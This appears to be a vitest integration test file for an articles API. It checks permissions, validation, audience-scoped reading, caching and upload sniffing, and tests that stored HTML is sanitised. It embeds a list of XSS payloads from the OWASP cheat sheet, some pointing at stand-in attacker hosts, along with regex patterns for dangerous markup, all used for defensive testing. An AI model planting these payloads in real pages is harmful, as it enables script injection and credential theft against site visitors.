import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, testClient, upload } from '../../../test/helpers.ts';

/*
 * Content under Resources against a real database: operators write items; the HTML they send is kept to the
 * allow-list, on write and again on read (payloads from the OWASP XSS filter evasion cheat sheet); readers
 * see what is published, dated and meant for them; other tenants see nothing.
 */

const host = 'localhost';
let t: TestApp;
const { api, rows, signIn } = testClient(() => t, host);
const alpha = testClient(() => t, 'alpha.localhost');
const people = { operator: '', founder: '', investor: '' };

const item = (changes: Record<string, unknown> = {}) => ({
  title: 'Seed fund results',
  summary: 'Who won the seed fund this quarter',
  body: '<p>Twelve startups <strong>won</strong>. <a href="https://example.com/list">The list</a>.</p>',
  published: true,
  audience: { scope: 'public' },
  ...changes,
});
const count = async () => Number((await rows(sql`select count(*)::int as n from articles`))[0]?.n);

/** From the OWASP XSS filter evasion cheat sheet: each must come out harmless. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" &#14;  javascript:alert(1)">click</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  "<BODY ONLOAD=alert('XSS')>",
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>cell</td></tr></TABLE>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="//evil.example/x.png">',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
];
const dangerous = [
  /<script/i,
  /onerror/i,
  /onload/i,
  /javascript:/i,
  /<svg/i,
  /<iframe/i,
  /<object/i,
  /style=/i,
  /<style/i,
  /<meta/i,
  /<link/i,
  /<form/i,
  /<input/i,
  /data:text/i,
  /srcdoc/i,
  /<math/i,
  /\/\/evil/i,
  /background=/i,
];

beforeAll(async () => {
  t = await createTestApp();
  people.operator = await signIn('admin@ventura.demo');
  people.founder = await signIn('aarav@greenleaf.demo');
  people.investor = await signIn('rohan@northstar.demo');
}, 60_000);
afterAll(() => t.close());

describe('writing', () => {
  it('is for operators, and refuses bad input storing nothing', async () => {
    const before = await count();
    expect((await api('POST', '/admin/articles/news', people.founder, item())).statusCode).toBe(403);
    for (const bad of [
      item({ title: 'x' }),
      item({ coverUrl: 'javascript:alert(1)' }),
      item({ audience: { scope: 'types', types: [] } }),
      item({ publishAt: 'tomorrow' }),
      item({ body: 'x'.repeat(60_001) }),
    ]) {
      const res = await api('POST', '/admin/articles/news', people.operator, bad);
      expect(res.statusCode, JSON.stringify(bad).slice(0, 80)).toBe(400);
      expect(res.json()).toMatchObject({ message: expect.any(String), errors: expect.any(Array) });
    }
    expect((await api('POST', '/admin/articles/gossip', people.operator, item())).statusCode).toBe(400);
    expect(await count()).toBe(before);
  });

  it('keeps HTML to the allow-list: every cheat-sheet payload comes out harmless, the text and safe links stay', async () => {
    const body = `<h2>Results</h2><p>Safe <em>text</em> and <a href="https://example.com" target="_blank">a link</a>.</p>${payloads.join('\n')}`;
    const created = await api('POST', '/admin/articles/news', people.operator, item({ title: 'Payloads', body }));
    expect(created.statusCode).toBe(201);
    const stored = String((await rows(sql`select body from articles where title = 'Payloads'`))[0]?.body);
    const served = (await api('GET', `/articles/news/${created.json().data.slug}`)).json().data.body as string;
    for (const text of [stored, served]) {
      for (const pattern of dangerous) expect(text, String(pattern)).not.toMatch(pattern);
      expect(text).toContain('<h2>Results</h2>');
      expect(text).toContain(
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">a link</a>',
      );
      expect(text).toContain('<td>cell</td>');
    }
  });

  it('sanitises again on read: a row stored before (or by hand) is served clean', async () => {
    const created = await api('POST', '/admin/articles/news', people.operator, item({ title: 'Old row' }));
    await rows(
      sql`update articles set body = '<p>hi</p><img src=x onerror=alert(1)><script>alert(2)</script>' where title = 'Old row'`,
    );
    const served = (await api('GET', `/articles/news/${created.json().data.slug}`)).json().data.body;
    expect(served).toBe('<p>hi</p><img src="x" />');
  });
});

describe('reading', () => {
  it('shows what is published and dated to its audience only, and nothing to another tenant', async () => {
    const write = async (title: string, changes: Record<string, unknown>) =>
      (await api('POST', '/admin/articles/market-insights', people.operator, item({ title, ...changes }))).json().data;
    const open = await write('Open insight', {});
    await write('Members insight', { audience: { scope: 'members' } });
    await write('Investors insight', { audience: { scope: 'types', types: ['investor'] } });
    await write('Draft insight', { published: false });
    await write('Future insight', { publishAt: new Date(Date.now() + 86_400_000).toISOString() });
    const titles = async (token?: string) =>
      ((await api('GET', '/articles/market-insights', token)).json().data.items as { title: string }[])
        .map((entry) => entry.title)
        .sort();
    expect(await titles()).toEqual(['Open insight']);
    expect(await titles(people.founder)).toEqual(['Members insight', 'Open insight']);
    expect(await titles(people.investor)).toEqual(['Investors insight', 'Members insight', 'Open insight']);
    const admin = (await api('GET', '/admin/articles/market-insights', people.operator)).json().data.items;
    expect(admin).toHaveLength(5);
    expect((await api('GET', '/admin/articles/market-insights', people.founder)).statusCode).toBe(403);
    const searched = (await api('GET', '/articles/market-insights?q=open', people.investor)).json().data.items;
    expect(searched.map((entry: { title: string }) => entry.title)).toEqual(['Open insight']);
    expect((await alpha.api('GET', `/articles/market-insights/${open.slug}`)).statusCode).toBe(404);
    expect((await api('GET', '/articles/market-insights/members-insight')).statusCode).toBe(404);
  });

  it('answers signed-out readers from a short cache that an operator’s change empties', async () => {
    const created = (
      await api('POST', '/admin/articles/webinars', people.operator, item({ title: 'Pitch clinic' }))
    ).json().data;
    expect(
      (await api('GET', '/articles/webinars')).json().data.items.map((entry: { title: string }) => entry.title),
    ).toEqual(['Pitch clinic']);
    await api(
      'PATCH',
      `/admin/articles/webinars/${created.id}`,
      people.operator,
      item({ title: 'Pitch clinic, moved', recordingUrl: 'https://video.example/rec' }),
    );
    const after = (await api('GET', '/articles/webinars')).json().data.items;
    expect(after[0]).toMatchObject({ title: 'Pitch clinic, moved', recordingUrl: 'https://video.example/rec' });
    expect((await api('DELETE', `/admin/articles/webinars/${created.id}`, people.operator)).statusCode).toBe(204);
    expect((await api('GET', '/articles/webinars')).json().data.items).toEqual([]);
  });

  it('takes a report as a PDF told by its bytes, and refuses an image', async () => {
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
    const sent = await upload(t.app, {
      host,
      url: '/api/v1/admin/articles/files',
      token: people.operator,
      file: { name: 'file', filename: 'Startup report 2026.pdf', type: 'application/pdf', content: pdf },
    });
    expect(sent.statusCode).toBe(201);
    expect(sent.json().data).toMatchObject({
      fileName: 'Startup report 2026.pdf',
      fileUrl: expect.stringMatching(/-article\.pdf$/),
    });
    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fcffff3f0005fe02fea7d6a0000000000049454e44ae426082',
      'hex',
    );
    const refused = await upload(t.app, {
      host,
      url: '/api/v1/admin/articles/files',
      token: people.operator,
      file: { name: 'file', filename: 'report.pdf', type: 'application/pdf', content: png },
    });
    expect(refused.statusCode).toBe(400);
    const member = await upload(t.app, {
      host,
      url: '/api/v1/admin/articles/files',
      token: people.founder,
      file: { name: 'file', filename: 'x.pdf', type: 'application/pdf', content: pdf },
    });
    expect(member.statusCode).toBe(403);
  });

  it('takes a video told by its bytes and read by ffprobe, plays it with ranges, and refuses what is not one', async () => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'article-video-'));
    const file = path.join(folder, 'pitch-night.mp4');
    execFileSync('ffmpeg', [
      ...['-v', 'error', '-y', '-f', 'lavfi', '-i', 'testsrc=size=160x120:rate=10:duration=1'],
      ...['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p', file],
    ]);
    const mp4 = fs.readFileSync(file);
    fs.rmSync(folder, { recursive: true, force: true });
    const send = (content: Buffer, token = people.operator, filename = 'pitch-night.mp4') =>
      upload(t.app, {
        host,
        url: '/api/v1/admin/articles/files/videos',
        token,
        file: { name: 'file', filename, type: 'video/mp4', content },
      });
    const sent = await send(mp4);
    expect(sent.statusCode, sent.body).toBe(201);
    const { videoUrl, fileName } = sent.json().data;
    expect(fileName).toBe('pitch-night.mp4');
    expect(videoUrl).toMatch(/-video\.mp4$/);
    const part = await t.app.inject({ method: 'GET', url: videoUrl, headers: { host, range: 'bytes=0-99' } });
    expect(part.statusCode).toBe(206);
    expect(part.headers['content-type']).toBe('video/mp4');
    const created = await api(
      'POST',
      '/admin/articles/videos',
      people.operator,
      item({ title: 'Pitch night', videoUrl, coverUrl: null }),
    );
    expect(created.statusCode, created.body).toBe(201);
    expect((await api('GET', `/articles/videos/${created.json().data.slug}`)).json().data.videoUrl).toBe(videoUrl);

    // A PDF named .mp4, bytes that only start like an MP4, and a member: refused, nothing kept.
    const pdf = Buffer.from('%PDF-1.7\n%%EOF\n');
    const notVideo = await send(pdf);
    expect(notVideo.statusCode).toBe(400);
    expect(notVideo.json()).toEqual({
      message: 'Upload an MP4 or WebM video',
      errors: ['file: This is a file of type PDF, not a video'],
    });
    const broken = await send(mp4.subarray(0, 64));
    expect(broken.statusCode).toBe(400);
    expect(broken.json().errors[0]).toMatch(/^file: /);
    expect((await send(mp4, people.founder)).statusCode).toBe(403);
  });
});
